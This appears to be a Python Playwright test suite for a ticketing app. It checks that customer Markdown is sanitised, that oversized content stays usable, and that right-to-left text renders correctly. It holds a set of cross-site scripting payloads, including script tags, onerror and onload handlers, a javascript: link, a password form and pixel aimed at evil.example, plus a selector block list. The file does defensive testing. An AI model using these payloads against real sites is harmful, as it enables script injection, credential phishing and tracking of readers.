"""Untrusted Markdown, rendered in a real browser."""

from uuid import uuid4

import pytest
from playwright.async_api import expect

from stack.demo_people import CASEY, ROBIN
from tests.browser.conftest import OpenVisitor
from tests.browser.steps import ApiLogin, new_ticket
from tests.support.markdown_cases import HOSTILE

pytestmark = pytest.mark.asyncio(loop_scope="session")

SCRIPTS = """
**bold** and [a link](https://example.org)

<script>window.ran = 1</script>
<img src=x onerror="window.ran = 2">
[press me](javascript:window.ran=3)
<a href="https://example.org" onclick="window.ran = 4">or me</a>
<form action="https://evil.example"><input name="password"></form>
<p style="position:fixed;inset:0" class="danger" id="root">over everything</p>
<iframe src="https://evil.example"></iframe><svg onload="window.ran = 5"></svg>
![a picture that tells who reads this](https://evil.example/pixel.png)
"""


REFUSED = "script, img, form, input, iframe, svg, [style], [class], [id], [onclick], a[href^='javascript']"


async def test_a_message_cannot_run_scripts_load_resources_or_cover_the_page(
    open_visitor: OpenVisitor, api: ApiLogin
) -> None:
    ticket = await new_ticket(api, f"Markdown {uuid4().hex[:8]}")
    customer = await api(CASEY.email, CASEY.password)
    await customer.send("POST", f"/tickets/{ticket['id']}/messages", json={"body": SCRIPTS}, key=ticket["id"])
    robin = await open_visitor()
    asked: list[str] = []
    robin.page.on("request", lambda request: asked.append(request.url))
    await robin.log_in(ROBIN, path=f"/desk/{ticket['id']}")
    message = robin.page.get_by_role("article").last
    await expect(message.get_by_role("strong")).to_have_text("bold")
    await message.get_by_text("press me").click()
    await message.get_by_text("over everything").click()

    assert await robin.page.evaluate("window.ran") is None
    assert [url for url in asked if "evil" in url] == []
    found = await message.locator("p").last.evaluate(
        "(it, what) => it.parentElement.querySelectorAll(what).length", REFUSED
    )
    assert found == 0
    link = message.get_by_role("link", name="a link")
    assert await link.get_attribute("target") == "_blank"
    assert "noopener" in (await link.get_attribute("rel") or "")


async def test_a_text_that_exceeds_the_bounds_leaves_the_page_usable(open_visitor: OpenVisitor, api: ApiLogin) -> None:
    ticket = await new_ticket(api, f"Markdown {uuid4().hex[:8]}")
    customer = await api(CASEY.email, CASEY.password)
    for name in ("quotes", "numbered lists", "wide table", "emphasis"):
        body = {"body": HOSTILE[name]}
        await customer.send("POST", f"/tickets/{ticket['id']}/messages", json=body, key=ticket["id"] + name)
    casey = await open_visitor()
    await casey.log_in(CASEY, path=f"/tickets/{ticket['id']}")

    await expect(casey.page.get_by_role("article")).to_have_count(5)
    await expect(casey.page.get_by_role("article").nth(1)).to_contain_text("> > > > > > > > x")
    await expect(casey.page.get_by_role("article").nth(3)).to_contain_text("|-|-|-|-|")
    assert await casey.page.evaluate("document.querySelectorAll('*').length") < 1_000
    await casey.page.get_by_label("Reply").fill("Still *here*.")
    await casey.page.get_by_role("button", name="Send").click()
    await expect(casey.page.get_by_role("article").last.locator("em")).to_have_text("here")


async def test_each_paragraph_has_its_direction_and_a_quote_is_as_large_as_the_text(
    open_visitor: OpenVisitor, api: ApiLogin
) -> None:
    customer = await api(CASEY.email, CASEY.password)
    new = {"title": "המדפסת HP 4200.", "description": "א"}
    ticket = (await customer.send("POST", "/tickets", json=new, key=uuid4().hex)).json()
    body = {"body": "המדפסת HP 4200.\n\nThe printer.\n\n> א\n\n- א\n- b"}
    await customer.send("POST", f"/tickets/{ticket['id']}/messages", json=body, key=ticket["id"])
    casey = await open_visitor()
    await casey.log_in(CASEY, path=f"/tickets/{ticket['id']}")
    message = casey.page.get_by_role("article").last

    await expect(casey.page.get_by_role("heading", level=1)).to_have_css("direction", "rtl")
    for selector, direction in {
        "p:not([data-size]) >> nth=0": "rtl",
        "p:not([data-size]) >> nth=1": "ltr",
        "blockquote": "rtl",
        "ul": "rtl",
        "li >> nth=1": "ltr",
    }.items():
        await expect(message.locator(selector)).to_have_css("direction", direction)
    size = await message.locator("p:not([data-size])").nth(1).evaluate("(it) => getComputedStyle(it).fontSize")
    quote = message.locator("blockquote")
    await expect(quote).to_have_css("font-size", size)
    await expect(quote).to_have_css("border-right-width", "3px")
    await casey.page.get_by_label("Reply").fill("שלום")
    await expect(casey.page.get_by_label("Reply")).to_have_css("direction", "rtl")
